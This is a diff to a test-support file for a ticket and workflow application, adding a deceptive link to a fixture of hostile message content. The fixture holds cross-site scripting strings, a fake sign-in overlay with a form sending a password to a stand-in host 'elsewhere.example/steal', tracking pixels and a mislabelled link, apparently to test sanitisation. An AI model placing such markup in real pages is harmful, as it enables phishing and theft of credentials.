@@ -13,7 +13,7 @@ from tests.support.context import HandClock
 from tests.support.workbooks import build_book
 from workflow.audit.webhook_events import EventType
 from workflow.context import AppContext
-from workflow.models.core import Contact, OutgoingMail, Staff
+from workflow.models.core import Contact, Message, OutgoingMail, Staff
 from workflow.models.states import OutboxState, WebhookEventState
 from workflow.models.webhooks import WebhookEvent
 from workflow.tickets import saved_views
@@ -22,9 +22,11 @@ from workflow.webhooks import deliver
 SCRIPT = "<img src=x onerror=\"window.name='owned'\"><script>window.name='owned'</script>"
 LONG = "Donaudampfschifffahrtsgesellschaftskapitän" * 6
 HEBREW = "מרפאת השרון לבריאות המשפחה"
+FAKE_LINK = f"https://elsewhere.example/{LONG}?u=http%3A%2F%2Flast.example%2F"
 EVIL = f"""<h1 style="position:fixed;top:0;left:0;width:9999px">Sign in again</h1>{SCRIPT}
 <form action="http://elsewhere.example/steal"><input name="password"><button>Go</button></form>
 <img src="http://elsewhere.example/pixel.gif"><a href="javascript:alert(1)">here</a>
+<a href="{FAKE_LINK}">clinic.example</a>
 <style>@import url("http://elsewhere.example/x.css");
 body {{ background: url("http://elsewhere.example/b.png") }}</style>
 <iframe src="http://elsewhere.example/"></iframe><svg onload="window.name='owned'"></svg>"""
@@ -64,6 +66,7 @@ class HostileData:
     long: int
     unmapped: int  # a delivery: a workbook with headings nobody knows
     automatic: int  # a ticket whose only message looks automatic
+    linked: int  # the message of the hostile ticket, which has FAKE_LINK
 
 
 def add(app_context: AppContext, clock: HandClock) -> HostileData:
@@ -132,7 +135,10 @@ def add(app_context: AppContext, clock: HandClock) -> HostileData:
             52,
             "no answer within ten seconds",
         )
-    return HostileData(hostile, assigned_ticket, unmapped_delivery, automatic)
+    with app_context.store.read_only() as session:
+        mails = select(Message.id).where(Message.ticket_id == hostile, Message.direction == "in")
+        linked = session.scalars(mails).one()
+    return HostileData(hostile, assigned_ticket, unmapped_delivery, automatic, linked)
 
 
 def _add_broken_deliveries(app_context: AppContext) -> int:
